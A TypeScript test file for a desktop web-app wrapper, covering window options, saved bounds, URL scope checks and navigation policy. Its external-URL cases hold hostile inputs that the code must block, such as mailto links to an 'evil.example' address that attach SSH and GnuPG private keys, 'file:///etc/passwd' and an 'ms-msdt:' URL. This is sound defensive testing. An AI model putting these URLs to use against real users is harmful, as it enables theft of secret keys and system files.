import assert from 'node:assert/strict';
import { mkdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import {
  decideNavigation,
  decideWindowOpen,
  externalUrl,
  isInScope,
} from '../../app/desktop/navigation-policy.ts';
import { placeOnScreen, WINDOW_BOUNDS_FILE, WindowBoundsFile } from '../../app/desktop/window-bounds.ts';
import {
  appWindowOptions,
  DEFAULT_WINDOW_SIZE,
  hasNavigationControls,
  nativeImageFormats,
  windowDisplay,
} from '../../app/desktop/window-options.ts';
import { silentLogger } from '../../app/logging/logger.ts';
import { bestSavedIcon } from '../../app/os/launchers/launcher-icon.ts';
import type { AppRecord } from '../../app/store/records.ts';
import { fixtureAppRecord } from '../helpers/fixture-app.ts';
import { tempDataDir } from '../helpers/harness.ts';

const app: AppRecord = fixtureAppRecord('https://news.example', 'News', {
  id: 'news',
  manifestId: 'https://news.example/app/',
  startUrl: 'https://news.example/app/',
  scope: 'https://news.example/app/',
  display: 'standalone',
  themeColor: '#1a73e8',
  backgroundColor: '#ffffff',
});

const displays: [string, ReturnType<typeof windowDisplay>][] = [
  ['standalone', 'standalone'],
  ['fullscreen', 'fullscreen'],
  ['minimal-ui', 'minimal-ui'],
  ['window-controls-overlay', 'window-controls-overlay'],
  ['browser', 'minimal-ui'],
  ['kiosk', 'minimal-ui'],
];
for (const [display, expected] of displays) {
  test(`manifest display ${display} → window ${expected}`, () =>
    assert.equal(windowDisplay(display), expected));
}

test('standalone: no menu bar, the app name as title, the background colour until first paint', () => {
  const options = appWindowOptions(app, undefined);
  assert.deepEqual(options, {
    title: 'News',
    width: DEFAULT_WINDOW_SIZE.width,
    height: DEFAULT_WINDOW_SIZE.height,
    minWidth: 320,
    minHeight: 240,
    fullscreen: false,
    autoHideMenuBar: true,
    backgroundColor: '#ffffff',
    show: false,
  });
});

test('minimal-ui keeps the menu bar (back, reload); fullscreen opens fullscreen', () => {
  assert.equal(appWindowOptions({ ...app, display: 'minimal-ui' }, undefined).autoHideMenuBar, false);
  assert.equal(hasNavigationControls({ ...app, display: 'minimal-ui' }), true);
  assert.equal(hasNavigationControls({ ...app, display: 'browser' }), true);
  assert.equal(hasNavigationControls(app), false);
  assert.equal(appWindowOptions({ ...app, display: 'fullscreen' }, undefined).fullscreen, true);
  assert.equal(appWindowOptions({ ...app, display: 'standalone' }, undefined).fullscreen, false);
});

test('window-controls-overlay: a hidden title bar with an overlay in the theme colour and readable symbols', () => {
  const dark = appWindowOptions({ ...app, display: 'window-controls-overlay' }, undefined);
  assert.equal(dark.titleBarStyle, 'hidden');
  assert.deepEqual(dark.titleBarOverlay, { color: '#1a73e8', symbolColor: '#ffffff', height: 33 });
  const light = appWindowOptions(
    { ...app, display: 'window-controls-overlay', themeColor: '#fe0' },
    undefined,
  );
  assert.deepEqual(light.titleBarOverlay, { color: '#fe0', symbolColor: '#000000', height: 33 });
  const plain = appWindowOptions({ ...app, display: 'window-controls-overlay', themeColor: null }, undefined);
  assert.deepEqual(plain.titleBarOverlay, { height: 33 });
  assert.equal(appWindowOptions(app, undefined).titleBarOverlay, undefined);
});

test('colours from the manifest are used only when they are plain hex colours', () => {
  assert.equal(appWindowOptions({ ...app, backgroundColor: 'red; x' }, undefined).backgroundColor, '#1a73e8');
  assert.equal(
    appWindowOptions({ ...app, backgroundColor: null, themeColor: 'url(x)' }, undefined).backgroundColor,
    undefined,
  );
});

test('remembered bounds give size, position and fullscreen', () => {
  const options = appWindowOptions(app, { x: 10, y: 20, width: 800, height: 600, fullscreen: true });
  assert.deepEqual(
    [options.x, options.y, options.width, options.height, options.fullscreen],
    [10, 20, 800, 600, true],
  );
});

const screens = [
  { x: 0, y: 0, width: 1920, height: 1040 },
  { x: 1920, y: 0, width: 1280, height: 1024 },
];
test('bounds placed without a position give the size and leave the position to the OS', () => {
  const options = appWindowOptions(app, { width: 700, height: 500, fullscreen: false });
  assert.deepEqual([options.x, options.y, options.width, options.height], [undefined, undefined, 700, 500]);
  assert.equal('x' in options, false);
});

test('a window is put back where it was while its title bar shows on a screen', () => {
  const saved = { x: 2000, y: 100, width: 900, height: 700, fullscreen: false };
  assert.deepEqual(placeOnScreen(saved, screens), saved);
});
test('a window last seen on an unplugged screen opens at its size (capped), where the OS puts it', () => {
  const saved = { x: 3500, y: 100, width: 2500, height: 700, fullscreen: false };
  assert.deepEqual(placeOnScreen(saved, screens), { width: 1920, height: 700, fullscreen: false });
  assert.deepEqual(placeOnScreen({ ...saved, x: 100, y: -200 }, screens), {
    width: 1920,
    height: 700,
    fullscreen: false,
  });
});

test('window bounds are kept per app in an owner-only file and survive a restart', (t) => {
  const dir = tempDataDir(t);
  const file = new WindowBoundsFile(dir, silentLogger);
  assert.equal(file.get('news'), undefined);
  file.set('news', { x: 1, y: 2, width: 300, height: 400, fullscreen: false });
  file.set('mail', { x: 5, y: 6, width: 700, height: 800, fullscreen: true });
  assert.equal(statSync(join(dir, WINDOW_BOUNDS_FILE)).mode & 0o777, 0o600);
  const reread = new WindowBoundsFile(dir, silentLogger);
  assert.deepEqual(reread.get('news'), { x: 1, y: 2, width: 300, height: 400, fullscreen: false });
  reread.forget('news');
  assert.equal(new WindowBoundsFile(dir, silentLogger).get('news'), undefined);
  assert.deepEqual(new WindowBoundsFile(dir, silentLogger).get('mail')?.fullscreen, true);
  assert.equal(reread.get('__proto__'), undefined);
});

test('a damaged bounds file means nothing remembered, and the next save repairs it', (t) => {
  const dir = tempDataDir(t);
  const warnings: string[] = [];
  const logger = { ...silentLogger, warn: (_: unknown, message: string) => warnings.push(message) };
  for (const text of ['{not json', '{"news":{"x":"1"}}', '[]']) {
    writeFileSync(join(dir, WINDOW_BOUNDS_FILE), text);
    const file = new WindowBoundsFile(dir, logger);
    assert.equal(file.get('news'), undefined);
  }
  assert.equal(warnings.length, 3);
  new WindowBoundsFile(dir, logger).set('news', { x: 0, y: 0, width: 10, height: 10, fullscreen: false });
  assert.equal(new WindowBoundsFile(dir, silentLogger).get('news')?.width, 10);
});

const scope = 'https://news.example/app/';
const scopeCases: [string, boolean][] = [
  ['https://news.example/app/', true],
  ['https://news.example/app/article/1?x#y', true],
  ['https://news.example/app', false],
  ['https://news.example/application', false],
  ['https://news.example/app/../admin', false],
  ['https://news.example/app/%2e%2e/admin', false],
  ['http://news.example/app/', false],
  ['https://news.example:444/app/', false],
  ['https://evil.example/app/', false],
  ['https://news.example.evil.example/app/', false],
  ['javascript:alert(1)', false],
  ['not a url', false],
];
for (const [url, inScope] of scopeCases) {
  test(`in scope ${scope}: ${url} → ${inScope}`, () => assert.equal(isInScope(url, scope), inScope));
}

const externalCases: [string, string | null][] = [
  ['https://other.example/page', 'https://other.example/page'],
  ['http://other.example', 'http://other.example/'],
  ['mailto:ada@example.org', 'mailto:ada@example.org'],
  ['mailto:ada@example.org?subject=Hi&body=See%20you', 'mailto:ada@example.org?subject=Hi&body=See%20you'],
  ['mailto:?to=ada@example.org&CC=b@example.org', 'mailto:?to=ada@example.org&CC=b@example.org'],
  // A mail client that takes attach= as a local file would mail the person's files to the page's author.
  ['mailto:thief@evil.example?attach=/home/ada/.ssh/id_ed25519', null],
  ['mailto:thief@evil.example?subject=x&Attachment=~/.gnupg/secring.gpg', null],
  ['mailto:thief@evil.example?body=x&x-unknown=1', null],
  ['file:///etc/passwd', null],
  ['javascript:alert(1)', null],
  ['smb://server/share', null],
  ['ms-msdt:/id PCWDiagnostic', null],
  ['vscode://file/etc', null],
  ['data:text/html,hi', null],
  ['https://bank.example@evil.example/', null],
  ['', null],
];
for (const [url, expected] of externalCases) {
  test(`open externally: ${JSON.stringify(url)} → ${expected}`, () =>
    assert.equal(externalUrl(url), expected));
}

test('navigation: in scope stays, http(s) and mailto outside go to the default browser, others nowhere', () => {
  assert.deepEqual(decideNavigation('https://news.example/app/x', scope), { kind: 'allow' });
  assert.deepEqual(decideNavigation('https://wiki.example/', scope), {
    kind: 'open-external',
    url: 'https://wiki.example/',
  });
  assert.equal(decideNavigation('file:///etc/passwd', scope).kind, 'deny');
});

test('window.open: in scope another app window, outside the default browser, other schemes nothing', () => {
  assert.deepEqual(decideWindowOpen('https://news.example/app/popup', scope), {
    kind: 'app-window',
    url: 'https://news.example/app/popup',
  });
  assert.deepEqual(decideWindowOpen('mailto:x@example.org', scope), {
    kind: 'open-external',
    url: 'mailto:x@example.org',
  });
  assert.equal(decideWindowOpen('about:blank', scope).kind, 'deny');
  assert.equal(decideWindowOpen('chrome://settings', scope).kind, 'deny');
});

test('a window gets an icon nativeImage can decode: PNG, then JPEG (ICO too on Windows), never SVG', (t) => {
  const dataDir = tempDataDir(t);
  mkdirSync(join(dataDir, 'icons'));
  const icon = (file: string, sizes: string, type: string) => {
    writeFileSync(join(dataDir, 'icons', file), '');
    return { src: `https://news.example/${file}`, file: `icons/${file}`, sizes, type };
  };
  const svg = icon('big.svg', 'any 1024x1024', 'image/svg+xml');
  const png = icon('small.png', '48x48', 'image/png');
  const jpeg = icon('photo.jpg', '512x512', 'image/jpeg');
  const ico = icon('app.ico', '256x256', 'image/x-icon');
  const pick = (icons: (typeof svg)[], platform: NodeJS.Platform) =>
    bestSavedIcon(icons, dataDir, nativeImageFormats(platform))?.slice(dataDir.length + '/icons/'.length);
  assert.equal(pick([svg, png, jpeg], 'linux'), 'small.png', 'PNG first, even when smaller');
  assert.equal(pick([svg, jpeg], 'darwin'), 'photo.jpg');
  assert.equal(pick([svg, ico], 'linux'), undefined, 'only Windows decodes ICO; an SVG never');
  assert.equal(pick([svg, ico], 'win32'), 'app.ico');
  assert.equal(pick([svg], 'win32'), undefined, "an SVG-only app's window keeps the app's own icon");
});
